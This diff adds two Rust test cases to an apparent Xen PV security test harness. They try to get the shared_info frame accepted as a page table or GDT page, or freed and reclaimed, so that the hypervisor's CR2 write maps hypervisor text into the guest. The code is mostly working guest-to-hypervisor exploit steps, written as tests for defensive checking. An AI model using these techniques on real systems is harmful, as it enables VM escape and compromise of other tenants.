@@ -358,3 +358,104 @@ pub fn f6(env: &mut Env) -> Verdict {
         }
     }
 }
+
+/// F7 (found by the fuzzer): the shared_info frame (a hypervisor frame the
+/// domain may map) accepted as a page table. The hypervisor itself writes
+/// shared_info: on every page fault it stores CR2 in vcpu_info[0].arch.cr2
+/// (offset 16), so a fault at an address that looks like a PTE becomes
+/// entry 2 of that "L1".
+pub fn f7(env: &mut Env) -> Verdict {
+    let (_, page) = env.fresh();
+    let _ = env.map_low(0, page, RWF);
+    let Some(l2) = env.low_l2 else { return broke!("f7 setup: no low window") };
+    let si = env.shared_info;
+    let slot = 200;
+    let r = mu(entry(l2, slot), (si << 12) | RWF);
+    say!("f7: shared_info frame {si:#x} as the L1 under low L2 entry {slot}: {r}");
+    let r3 = mu(entry(l2, slot), 0);
+    let pin = me(MMUEXT_PIN_L1_TABLE, si, 0);
+    if pin == 0 {
+        let _ = me(MMUEXT_UNPIN_TABLE, si, 0);
+    }
+    say!("f7: NEW_BASEPTR to shared_info (the domain dies here if it is accepted)");
+    let nb = me(MMUEXT_NEW_BASEPTR, si, 0);
+    say!("f7: NEW_BASEPTR to shared_info: {nb}");
+    let gdt = call(N::SET_GDT, &[[si].as_ptr() as u64, 16]);
+    let _ = call(N::SET_GDT, &[0, 0]);
+    say!("f7: pin L1 of shared_info: {pin}; set_gdt([shared_info]): {gdt}");
+    if r != 0 && pin != 0 && gdt != 0 {
+        say!("f7: defeated: shared_info can be neither a page table nor a descriptor page");
+        return Ok(());
+    }
+    if r == 0 && r3 == 0 {
+        let again = mu(entry(l2, slot), (si << 12) | RWF);
+        // A fault at 0x200025 (not mapped): CR2 = frame 0x200 | P|U|A.
+        let pte = (HV_TEXT_MFN << 12) | RO;
+        let f = catch(|| {
+            let _ = arch::read(pte);
+        });
+        let va = slot * (2 << 20) + 2 * 4096;
+        let _ = me(MMUEXT_INVLPG_LOCAL, va, 0);
+        let mut word = 0;
+        let g = catch(|| word = arch::read(va));
+        say!("f7: hooked again: {again}; fault at {pte:#x}: {}; read at {va:#x}: {word:#x} ({})", show(&f), show(&g));
+        let _ = mu(entry(l2, slot), 0);
+        if again == 0 && g.is_none() {
+            return broke!("f7: shared_info became an L1; the hypervisor's CR2 write mapped frame {HV_TEXT_MFN:#x}, read {word:#x}");
+        }
+    }
+    broke!("f7: shared_info accepted as a page table or GDT frame (hook {r}, pin {pin}, set_gdt {gdt})")
+}
+
+/// F8 (found by the fuzzer): `decrease_reservation` of the shared_info
+/// frame. Freed, it can be handed to anyone (here back to the domain as an
+/// ordinary frame, which it makes an L1) while the hypervisor still writes
+/// it as the domain's shared_info.
+pub fn f8(env: &mut Env) -> Verdict {
+    let si = env.shared_info;
+    let (_, page) = env.fresh();
+    let _ = env.map_low(0, page, RWF);
+    // A PFN to populate: give its frame back first, so shared_info is the
+    // last frame freed (the free list is LIFO) if it can be freed at all.
+    let (pfn, m) = env.fresh();
+    let mut back = [m];
+    let _ = memory_op(XENMEM_DECREASE_RESERVATION, &reservation(back.as_mut_ptr() as u64, 1, 0, SELF as u16));
+    let mut list = [si];
+    let r = memory_op(XENMEM_DECREASE_RESERVATION, &reservation(list.as_mut_ptr() as u64, 1, 0, SELF as u16));
+    say!("f8: decrease_reservation of shared_info {si:#x}: {r}");
+    if r == 0 {
+        let mut gpfn = [pfn];
+        let _ = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfn.as_mut_ptr() as u64, 1, 0, SELF as u16));
+        env.set_mfn(pfn, gpfn[0]);
+        say!("f8: defeated: shared_info cannot be given back");
+        return Ok(());
+    }
+    let mut gpfn = [pfn];
+    let r = memory_op(XENMEM_POPULATE_PHYSMAP, &reservation(gpfn.as_mut_ptr() as u64, 1, 0, SELF as u16));
+    let x = gpfn[0];
+    env.set_mfn(pfn, x);
+    say!("f8: populate_physmap: {r}, frame {x:#x}");
+    if r == 1 && x == si {
+        if let Some(l2) = env.low_l2 {
+            let slot = 200;
+            let hook = mu(entry(l2, slot), (x << 12) | RWF);
+            let pte = (HV_TEXT_MFN << 12) | RO;
+            let _ = catch(|| {
+                let _ = arch::read(pte);
+            });
+            let va = slot * (2 << 20) + 2 * 4096;
+            let _ = me(MMUEXT_INVLPG_LOCAL, va, 0);
+            let mut word = 0;
+            let g = catch(|| word = arch::read(va));
+            let _ = mu(entry(l2, slot), 0);
+            say!(
+                "f8: hooked it as an L1: {hook}; after a fault at {pte:#x}, read at {va:#x}: {word:#x} ({})",
+                show(&g)
+            );
+            if hook == 0 && g.is_none() {
+                return broke!("f8: shared_info came back as an ordinary frame; as an L1 the CR2 store mapped frame {HV_TEXT_MFN:#x}: {word:#x}");
+            }
+        }
+    }
+    broke!("f8: decrease_reservation freed shared_info {si:#x}, which the hypervisor still writes")
+}
